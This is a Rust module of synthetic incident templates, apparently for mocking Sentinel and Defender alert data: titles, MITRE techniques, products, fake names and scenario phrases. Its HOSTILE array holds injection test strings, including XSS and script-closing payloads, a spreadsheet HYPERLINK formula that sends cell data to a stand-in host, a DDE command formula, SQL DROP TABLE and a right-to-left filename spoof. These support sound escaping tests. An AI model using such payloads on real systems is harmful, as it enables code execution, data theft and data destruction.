//! What incidents are about: titles, tactics and products of the kinds of alert that teams meet every day.
//!
//! `{user}`, `{host}`, `{ip}` and `{app}` in a title are filled from the incident's own entities.

/// One kind of incident.
#[derive(Debug)]
pub struct Template {
    pub title: &'static str,
    pub description: &'static str,
    /// Position in [`SEVERITIES`] that is usual for it.
    pub severity: u8,
    pub tactics: &'static [&'static str],
    pub techniques: &'static [&'static str],
    pub product: &'static Product,
}

/// A product as both APIs name it.
#[derive(Debug)]
pub struct Product {
    /// In ARM's `alertProductNames`.
    pub name: &'static str,
    /// Graph's `serviceSource`.
    pub service: &'static str,
    /// Graph's `detectionSource`.
    pub detection: &'static str,
}

/// ARM's severities, the gravest first.
pub const SEVERITIES: [&str; 4] = ["High", "Medium", "Low", "Informational"];

const SENTINEL: Product =
    Product { name: "Azure Sentinel", service: "microsoftSentinel", detection: "scheduledAlerts" };
const ENDPOINT: Product = Product {
    name: "Microsoft Defender Advanced Threat Protection",
    service: "microsoftDefenderForEndpoint",
    detection: "microsoftDefenderForEndpoint",
};
const MAIL: Product = Product {
    name: "Office 365 Advanced Threat Protection",
    service: "microsoftDefenderForOffice365",
    detection: "microsoftDefenderForOffice365",
};
const IDENTITY: Product = Product {
    name: "Azure Active Directory Identity Protection",
    service: "azureAdIdentityProtection",
    detection: "azureAdIdentityProtection",
};
const APPS: Product = Product {
    name: "Microsoft Cloud App Security",
    service: "microsoftDefenderForCloudApps",
    detection: "cloudAppSecurity",
};
const CLOUD: Product = Product {
    name: "Azure Security Center",
    service: "microsoftDefenderForCloud",
    detection: "microsoftDefenderForCloud",
};

macro_rules! table {
    ($($product:ident $severity:literal $title:literal [$($tactic:literal),*] [$($technique:literal),*];)*) => {
        &[$(Template {
            title: $title,
            description: concat!(
                "Raised by the detection for", $(" ", $tactic,)*
                ". Follow the runbook of this tactic, then record what was found."
            ),
            severity: $severity,
            tactics: &[$($tactic),*],
            techniques: &[$($technique),*],
            product: &$product,
        }),*]
    };
}

/// What Sentinel's own rules raise.
pub const SENTINEL_RULES: &[Template] = table![
    SENTINEL 1 "Sign-in from an anonymising network by {user}" ["InitialAccess"] ["T1078"];
    SENTINEL 0 "Repeated MFA denials followed by a success for {user}" ["InitialAccess", "CredentialAccess"] ["T1621"];
    SENTINEL 1 "New inbox forwarding rule to an outside address by {user}" ["Collection", "Exfiltration"] ["T1114"];
    SENTINEL 2 "Firewall denied a burst of outbound connections from {host}" ["CommandAndControl"] ["T1571"];
    SENTINEL 1 "Rare user agent in calls to {app}" ["DefenseEvasion"] ["T1036"];
    SENTINEL 0 "Consent to an application with high privileges: {app}" ["Persistence", "PrivilegeEscalation"] ["T1098"];
    SENTINEL 2 "Failed sign-ins to a disabled account from {ip}" ["CredentialAccess"] ["T1110"];
    SENTINEL 1 "Mass download from SharePoint by {user}" ["Collection", "Exfiltration"] ["T1530"];
    SENTINEL 3 "Key vault read by an unfamiliar principal: {app}" ["CredentialAccess"] ["T1555"];
    SENTINEL 1 "DNS lookups of newly registered domains from {host}" ["CommandAndControl"] ["T1071"];
    SENTINEL 0 "Domain controller replication requested by {host}" ["CredentialAccess"] ["T1003"];
    SENTINEL 2 "Port scan against the server network from {ip}" ["Discovery"] ["T1046"];
    SENTINEL 1 "Privileged role assigned outside of PIM to {user}" ["Persistence", "PrivilegeEscalation"] ["T1078"];
    SENTINEL 2 "Security log cleared on {host}" ["DefenseEvasion"] ["T1070"];
    SENTINEL 1 "VPN session from two countries within an hour for {user}" ["InitialAccess"] ["T1133"];
    SENTINEL 3 "Watchlisted address seen in proxy logs: {ip}" ["CommandAndControl"] ["T1090"];
];

/// What Defender's products raise.
pub const DEFENDER_ALERTS: &[Template] = table![
    ENDPOINT 0 "Hands-on-keyboard activity on {host}" ["Execution"] ["T1059"];
    ENDPOINT 1 "Suspicious PowerShell download on {host}" ["Execution", "DefenseEvasion"] ["T1059", "T1027"];
    ENDPOINT 0 "Ransomware behaviour blocked on {host}" ["Impact"] ["T1486"];
    ENDPOINT 2 "Unwanted software detected on {host}" ["Execution"] ["T1204"];
    ENDPOINT 1 "Credential dumping tool seen on {host}" ["CredentialAccess"] ["T1003"];
    ENDPOINT 1 "Lateral movement by remote service from {host}" ["LateralMovement"] ["T1021"];
    MAIL 1 "Mail with a malicious link delivered to {user}" ["InitialAccess"] ["T1566"];
    MAIL 2 "User reported a mail as phishing: {user}" ["InitialAccess"] ["T1566"];
    MAIL 0 "Campaign with QR codes reached several mailboxes, first {user}" ["InitialAccess"] ["T1566"];
    IDENTITY 1 "Unfamiliar sign-in properties for {user}" ["InitialAccess"] ["T1078"];
    IDENTITY 0 "Leaked credentials of {user}" ["CredentialAccess"] ["T1589"];
    IDENTITY 1 "Password spray that reached {user}" ["CredentialAccess"] ["T1110"];
    APPS 1 "Impossible travel of {user}" ["InitialAccess"] ["T1078"];
    APPS 2 "Unusual file share activity by {user}" ["Exfiltration"] ["T1567"];
    APPS 1 "Unusual addition of credentials to {app}" ["Persistence"] ["T1098"];
    CLOUD 1 "Crypto-mining activity on {host}" ["Impact"] ["T1496"];
    CLOUD 2 "Storage account opened to anonymous reads" ["Exfiltration"] ["T1530"];
    CLOUD 1 "Privileged container started on {host}" ["PrivilegeEscalation"] ["T1611"];
];

/// First names, surnames, departments and apps that entities and owners are made of.
pub const FIRST: [&str; 16] = [
    "Aiko", "Bram", "Chiara", "Dario", "Elif", "Femi", "Greta", "Hugo", "Ines", "Jonas", "Kavya", "Liam",
    "Mira", "Noor", "Otto", "Pia",
];
pub const LAST: [&str; 16] = [
    "Abara", "Brandt", "Costa", "Dahl", "Egger", "Farouk", "Grau", "Holm", "Ito", "Jansen", "Keller", "Lund",
    "Moreau", "Novak", "Okafor", "Petit",
];
pub const SITES: [&str; 8] = ["BER", "LIS", "OSL", "MIL", "DUB", "NYC", "SIN", "CPT"];
pub const ROLES: [&str; 6] = ["WS", "SRV", "SQL", "DC", "WEB", "JMP"];
pub const APPS_SEEN: [&str; 8] = [
    "Ledger Export",
    "Backup Courier",
    "Chat Bridge",
    "Payroll Sync",
    "Build Runner",
    "Scan Station",
    "Warehouse Mobile",
    "Survey Tool",
];
/// Tags that analysts put on incidents.
pub const TAGS: [&str; 8] =
    ["vip", "phish-wave-31", "tuning", "pentest", "store-network", "INC0031277", "night-shift", "handover"];

/// Titles that try to be something else: markup, a formula, a terminal escape, a change of direction, a query, a path.
pub const HOSTILE: [&str; 7] = [
    "<img src=x onerror=alert(document.domain)> sign-in alert",
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Open\")",
    "\u{1b}]0;owned\u{7}\u{1b}[31mAlert\u{1b}[0m in red",
    "Invoice \u{202e}gpj.exe\u{202c} opened by finance",
    "'; DROP TABLE incident; --",
    "+cmd|' /C calc'!A0",
    "</script><script>window.stolen=1</script>",
];

/// Twenty phrases that occur nowhere else; a code from the seed is added to each.
pub const DISTINCTIVE: [&str; 20] = [
    "Dormant service principal woke in the harbour segment",
    "Badge reader telemetry replayed against the west gate",
    "Kiosk browser escaped its shell on the mezzanine",
    "Forgotten relay answered for the retired mail domain",
    "Contractor laptop mirrored the blueprint library overnight",
    "Thermostat controller spoke to an address in the wrong decade",
    "Payroll preview opened from the training tenant",
    "Signed driver with a borrowed certificate on the press line",
    "Lobby display tunnelled to the finance subnet",
    "Shadow copy of the vault index found on a print server",
    "Night backup ran twice from two continents",
    "Helpdesk macro asked for the recovery key of a director",
    "Courier account collected tokens from the loading dock",
    "Test ring policy switched off at the museum branch",
    "Unmanned drone hub enrolled itself as a workstation",
    "Archive mailbox answered a message from its owner's past",
    "Parking terminal queried the directory for executives",
    "Calibration script pushed an unsigned image to the lab",
    "Guest from a dissolved partner returned with admin consent",
    "Weather station feed carried an encoded archive",
];
